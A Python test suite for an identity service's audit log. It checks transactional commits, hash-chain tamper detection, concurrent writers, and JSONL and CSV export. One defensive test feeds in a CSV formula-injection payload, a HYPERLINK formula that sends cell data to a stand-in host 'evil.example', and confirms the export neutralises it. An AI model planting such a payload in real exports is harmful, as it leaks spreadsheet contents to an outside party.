"""Audit events are part of the caller's transaction."""

from __future__ import annotations

import csv
import io
import itertools
import json
from datetime import UTC, datetime, timedelta

import anyio
import pytest
from sqlalchemy import delete, func, select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from identity import admin_ops, audit
from identity.models import AuditEvent, Organization


async def test_event_and_change_commit_together(sessions: async_sessionmaker[AsyncSession]) -> None:
    async with sessions() as session:
        org = await admin_ops.create_organization(session, "Northwind Clinic")
        await session.commit()
        event = await session.scalar(
            select(AuditEvent).where(AuditEvent.event == "organization.created")
        )
    assert event is not None
    assert (event.target_id, event.actor_type, event.details["name"]) == (
        org.id,
        "operator",
        "Northwind Clinic",
    )


async def test_rolled_back_change_leaves_no_event(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    async with sessions() as session:
        await admin_ops.create_organization(session, "Ghost Clinic")
        await session.rollback()
        assert await session.scalar(select(func.count()).select_from(AuditEvent)) == 0
        assert await session.scalar(select(func.count()).select_from(Organization)) == 0


async def test_event_names_are_resource_dot_action(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    async with sessions() as session:
        with pytest.raises(ValueError, match=r"resource\.action"):
            await audit.record(session, "created", actor_type="operator", actor_id="cli")


async def five_events(sessions: async_sessionmaker[AsyncSession]) -> None:
    """Five events, sealed (the sealer chains committed events behind the writers)."""
    async with sessions() as session:
        for name in ("Alpha", "Beta", "Gamma", "Delta", "Epsilon"):
            await admin_ops.create_organization(session, f"{name} Clinic")
        await session.commit()
        await audit.seal(session)


async def verification(sessions: async_sessionmaker[AsyncSession]) -> audit.Verification:
    async with sessions() as session:
        return await audit.verify(session)


async def test_untouched_chain_verifies(sessions: async_sessionmaker[AsyncSession]) -> None:
    await five_events(sessions)
    result = await verification(sessions)
    assert result.ok and result.checked == 5
    async with sessions() as session:
        rows = list(await session.scalars(select(AuditEvent).order_by(AuditEvent.seq)))
    assert [r.seq for r in rows] == [1, 2, 3, 4, 5]
    assert all(b.prev_hash == a.hash for a, b in itertools.pairwise(rows))


async def test_an_edited_event_is_named(sessions: async_sessionmaker[AsyncSession]) -> None:
    await five_events(sessions)
    async with sessions() as session:
        await session.execute(
            update(AuditEvent).where(AuditEvent.seq == 3).values(actor_id="someone-else")
        )
        await session.commit()
    result = await verification(sessions)
    assert (result.ok, result.first_bad_seq) == (False, 3)
    assert "altered" in result.describe()


async def test_a_deleted_event_is_named(sessions: async_sessionmaker[AsyncSession]) -> None:
    await five_events(sessions)
    async with sessions() as session:
        await session.execute(delete(AuditEvent).where(AuditEvent.seq == 2))
        await session.commit()
    result = await verification(sessions)
    assert (result.ok, result.first_bad_seq) == (False, 2)
    assert "missing" in result.describe()


async def test_reordered_events_are_named(sessions: async_sessionmaker[AsyncSession]) -> None:
    await five_events(sessions)
    async with sessions() as session:
        await session.execute(update(AuditEvent).where(AuditEvent.seq == 4).values(seq=-4))
        await session.execute(update(AuditEvent).where(AuditEvent.seq == 3).values(seq=4))
        await session.execute(update(AuditEvent).where(AuditEvent.seq == -4).values(seq=3))
        await session.commit()
    result = await verification(sessions)
    assert (result.ok, result.first_bad_seq) == (False, 3)


async def test_removing_the_newest_events_is_detected(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    await five_events(sessions)
    async with sessions() as session:
        await session.execute(delete(AuditEvent).where(AuditEvent.seq >= 4))
        await session.commit()
    result = await verification(sessions)
    assert (result.ok, result.first_bad_seq) == (False, 4)
    assert "removed from the end" in result.describe()


async def test_concurrent_writers_never_fork_the_chain(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    async def writer(n: int) -> None:
        async with sessions() as session:
            await admin_ops.create_organization(session, f"Concurrent {n}")
            await session.commit()

    async with anyio.create_task_group() as group:
        for n in range(8):
            group.start_soon(writer, n)
    async with sessions() as session:
        await audit.seal(session)
    result = await verification(sessions)
    assert result.ok and result.checked == 8


async def test_export_jsonl_and_csv(sessions: async_sessionmaker[AsyncSession]) -> None:
    await five_events(sessions)
    start, end = datetime.now(UTC) - timedelta(hours=1), datetime.now(UTC) + timedelta(hours=1)
    async with sessions() as session:
        lines = [line async for line in audit.export(session, start, end, "jsonl")]
        rows = [line async for line in audit.export(session, start, end, "csv")]
        none = [line async for line in audit.export(session, end, end + timedelta(days=1), "jsonl")]
    first = json.loads(lines[0])
    assert len(lines) == 5 and first["event"] == "organization.created" and len(first["hash"]) == 64
    parsed = list(csv.DictReader(io.StringIO("".join(rows))))
    assert (
        len(parsed) == 5
        and parsed[4]["seq"] == "5"
        and json.loads(parsed[0]["details"])["name"] == "Alpha Clinic"
    )
    assert none == []


async def test_the_csv_export_writes_no_live_formula(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    """A typed username is tenant text: `=HYPERLINK(...)` must stay text in a spreadsheet."""
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    async with sessions() as session:
        await audit.record(
            session,
            "login.failed",
            actor_type="anonymous",
            actor_id=None,
            target_type="username",
            target_id=hostile,
            outcome="failure",
            reason="unknown_user",
        )
        await session.commit()
    start, end = datetime.now(UTC) - timedelta(hours=1), datetime.now(UTC) + timedelta(hours=1)
    async with sessions() as session:
        rows = [line async for line in audit.export(session, start, end, "csv")]
    (parsed,) = list(csv.DictReader(io.StringIO("".join(rows))))
    assert parsed["target_id"] == "'" + hostile
